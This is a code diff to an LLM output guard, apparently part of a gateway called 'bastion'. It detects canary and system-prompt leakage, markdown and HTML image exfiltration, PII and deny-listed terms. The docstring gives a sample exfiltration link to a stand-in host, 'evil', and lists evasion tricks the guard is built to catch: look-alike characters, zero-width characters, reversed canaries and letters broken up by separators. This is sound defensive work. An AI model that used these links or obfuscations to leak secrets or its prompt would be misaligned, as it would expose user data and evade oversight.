@@ -4,10 +4,20 @@
   IBAN, national IDs, e-mail, phone, API keys and private keys, …) and are redacted (``[CREDIT_CARD]``) or
   block the answer, per role;
 * system-prompt leakage: the output contains a canary token planted in the system prompt (ATLAS AML.T0056),
-  or a run of ``leak_words`` consecutive words of the system prompt;
-* markdown image/link exfiltration (``![](https://evil/?q=secret)``; ATLAS AML.T0077): an image or link whose
-  URL carries a query or fragment, or whose host is not allowed, is removed (redact) or blocks the answer;
-* deny lists: configured categories of terms (whole words, case-insensitive) that block the answer;
+  or a run of ``leak_words`` consecutive words of the system prompt. Both are also matched in a folded view
+  (:mod:`bastion.guard.leaks`: case, fullwidth, zero-width and combining characters, Cyrillic/Greek
+  look-alikes): a canary also with anything but letters and digits between its characters or reversed, the
+  system prompt also with words that are not in it skipped (``… um …`` fillers, numbered lines);
+* link exfiltration (``![](https://evil/?q=secret)``; ATLAS AML.T0077): every construct that fetches a URL
+  when rendered — inline and reference-style markdown images, HTML tags with a URL attribute (``<img src>``,
+  ``<iframe>``, ``style="url()"``), CSS ``url()`` — from a host that is not allowed, and every link, autolink
+  or bare URL to such a host that carries data (a query, a fragment, > 200 characters) is removed (redact) or
+  blocks the answer; reference definitions (``[1]: https://…``) to such hosts are always removed;
+* card numbers are also found in 4-digit groups separated by dots, slashes or a line break, and in
+  fullwidth digits (:func:`bastion.guard.leaks.loose_cards`, Luhn-checked);
+* deny lists: configured categories of terms (whole words, case-insensitive, also in the folded view with
+  up to three separators between the letters of terms of four or more letters, and plural ``s``/``es``)
+  that block the answer;
 * topics: content categories of the signed topic classifier (:mod:`bastion.guard.topics`: weapons, malware,
   drugs, self-harm, hate, sexual) that block the answer when their score reaches the category's threshold;
 * per role: each role may have its own PII action and deny categories (like the gateway's output rules).
@@ -28,6 +38,7 @@ from dataclasses import dataclass, field
 from typing import Any
 
 from bastion.errors import ConfigError
+from bastion.guard.leaks import canary_in, carries_data, fetch_spans, fold, loose_cards
 
 ACTIONS = ("allow", "redact", "block")
 DEFAULT_ENTITIES = (
@@ -40,8 +51,6 @@ DEFAULT_ENTITIES = (
     "EMAIL_ADDRESS",
     "PHONE_NUMBER",
 )
-_LINK = re.compile(r"(!?)\[([^\]\n]{0,200})\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
-_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://([^/?#:@]+(?:@[^/?#:]+)?)", re.IGNORECASE)
 
 
 @dataclass(frozen=True)
@@ -137,9 +146,29 @@ def _detectors(entities: frozenset[str] | None = None) -> tuple[Any, ...]:
     return tuple(d for d in dets if d.entity in entities or PRIORITY.get(d.entity, 50) <= lowest)
 
 
-def _shingles(text: str, n: int) -> set[tuple[str, ...]]:
-    words = re.findall(r"\w+", text.lower())
+_WORD_SPLIT = re.compile(r"[\W_]+")
+
+
+def _words(folded: str) -> list[str]:
+    return [w for w in _WORD_SPLIT.split(folded) if w]
+
+
+def _shingles(words: list[str], n: int) -> set[tuple[str, ...]]:
     return {tuple(words[i : i + n]) for i in range(len(words) - n + 1)}
+
+
+def _deny_pattern(terms: tuple[str, ...]) -> re.Pattern[str]:
+    """A folded term matches whole-word with up to three separators between its letters when it has four or
+    more of them (``p-i-p-e b.o.m.b``), and in the plural."""
+    alts = []
+    for term in terms:
+        t = fold(term).strip()
+        chars = [c for c in t if c.isalnum()]
+        if len(chars) >= 4:
+            alts.append(r"[\W_]{0,3}".join(re.escape(c) for c in chars))
+        else:
+            alts.append(re.escape(t))
+    return re.compile(r"(?<![^\W_])(?:" + "|".join(alts) + r")(?:e?s)?(?![^\W_])")
 
 
 class OutputPolicy:
@@ -162,24 +191,37 @@ class OutputPolicy:
             for cat, terms in self.config.deny.items()
             if terms
         }
-        self._prompt_cache: dict[str, set[tuple[str, ...]]] = {}
+        self._deny_folded = {cat: _deny_pattern(terms) for cat, terms in self.config.deny.items() if terms}
+        self._prompt_cache: dict[str, tuple[set[tuple[str, ...]], frozenset[str]]] = {}
         self._entities = frozenset(self.config.entities)
 
-    def _exfil_links(self, text: str) -> list[re.Match[str]]:
+    def _exfil_links(self, text: str) -> list[tuple[int, int]]:
+        allowed_hosts = [h.lower().strip(".") for h in self.config.allowed_link_hosts]
         bad = []
-        for m in _LINK.finditer(text):
-            url = m.group(3)
-            host_m = _HOST.match(url)
-            host = host_m.group(1).lower() if host_m else ""
-            allowed = host and any(
-                host == h or host.endswith("." + h) for h in self.config.allowed_link_hosts
-            )
-            carries = "?" in url or "#" in url or len(url) > 200
-            if host and (not allowed) and (m.group(1) == "!" or carries):
-                bad.append(m)
+        for f in fetch_spans(text):
+            allowed = any(f.host == h or f.host.endswith("." + h) for h in allowed_hosts)
+            if not allowed and (f.zero_click or carries_data(f.url)):
+                bad.append((f.start, f.end))
         return bad
 
-    def check(self, text: str, *, context: OutputContext | None = None) -> OutputVerdict:
+    def _prompt_shingles(self, system_prompt: str) -> tuple[set[tuple[str, ...]], frozenset[str]]:
+        cached = self._prompt_cache.get(system_prompt)
+        if cached is None:
+            words = _words(fold(system_prompt))
+            if len(self._prompt_cache) > 64:
+                self._prompt_cache.clear()
+            cached = self._prompt_cache[system_prompt] = (
+                _shingles(words, self.config.leak_words),
+                frozenset(words),
+            )
+        return cached
+
+    def check(
+        self, text: str, *, context: OutputContext | None = None, prefer_redact: bool = False
+    ) -> OutputVerdict:
+        """The verdict on ``text``. ``prefer_redact`` (the proxy's ``redact`` mode): PII and links that the
+        policy would block are redacted instead; canaries, system-prompt runs, deny lists and topics, which
+        cannot be redacted, still block."""
         from bastion.data.detectors import detect_text
 
         ctx = context or OutputContext()
@@ -188,17 +230,18 @@ class OutputPolicy:
         atlas: list[str] = []
         owasp: list[str] = []
         block = False
+        folded = fold(text)
+        skel = re.sub(r"[\W_]+", "", folded)
         for canary in ctx.canaries:
-            if canary and canary in text:
+            if canary_in(text, canary, folded=folded, skel=skel):
                 findings.append("canary")
                 block = True
+                break
         if ctx.system_prompt:
-            sp = self._prompt_cache.get(ctx.system_prompt)
-            if sp is None:
-                sp = self._prompt_cache[ctx.system_prompt] = _shingles(
-                    ctx.system_prompt, self.config.leak_words
-                )
-            if sp & _shingles(text, self.config.leak_words):
+            sp, vocab = self._prompt_shingles(ctx.system_prompt)
+            n = self.config.leak_words
+            words = _words(folded)
+            if sp & _shingles(words, n) or sp & _shingles([w for w in words if w in vocab], n):
                 findings.append("system-prompt-overlap")
                 block = True
         if findings:
@@ -206,7 +249,8 @@ class OutputPolicy:
             owasp.append("LLM07:2025")
         for cat in rule.deny_categories:
             pattern = self._deny.get(cat)
-            if pattern is not None and pattern.search(text):
+            loose = self._deny_folded.get(cat)
+            if (pattern is not None and pattern.search(text)) or (loose is not None and loose.search(folded)):
                 findings.append(f"deny:{cat}")
                 block = True
         if rule.topics and self._topics is not None:
@@ -221,23 +265,30 @@ class OutputPolicy:
             findings.append("link-exfiltration")
             atlas.append("AML.T0077")
             owasp.append("LLM05:2025")
-            if self.config.links == "block":
+            if self.config.links == "block" and not prefer_redact:
                 block = True
             else:
-                for m in reversed(links):
-                    out = out[: m.start()] + "[link removed]" + out[m.end() :]
+                for a, b in reversed(links):
+                    out = out[:a] + "[link removed]" + out[b:]
         if rule.pii != "allow":
             wanted = self._entities
-            spans = [s for s in detect_text(out, detectors=_detectors(wanted)) if s.entity in wanted]
-            if spans:
-                findings += sorted({f"pii:{s.entity}" for s in spans})
+            found = [
+                (s.start, s.end, s.entity)
+                for s in detect_text(out, detectors=_detectors(wanted))
+                if s.entity in wanted
+            ]
+            if "CREDIT_CARD" in wanted:  # a card across a line break is a card, not two phone numbers
+                cards = [(a, b, "CREDIT_CARD") for a, b in loose_cards(out)]
+                found = [f for f in found if all(f[1] <= a or f[0] >= b for a, b, _ in cards)] + cards
+            if found:
+                findings += sorted({f"pii:{e}" for _, _, e in found})
                 atlas.append("AML.T0057")
                 owasp.append("LLM02:2025")
-                if rule.pii == "block":
+                if rule.pii == "block" and not prefer_redact:
                     block = True
                 else:
-                    for s in sorted(spans, key=lambda s: s.start, reverse=True):
-                        out = out[: s.start] + f"[{s.entity}]" + out[s.end :]
+                    for a, b, e in sorted(found, reverse=True):
+                        out = out[:a] + f"[{e}]" + out[b:]
         action = "block" if block else "redact" if out != text else "allow"
         return OutputVerdict(
             action=action,
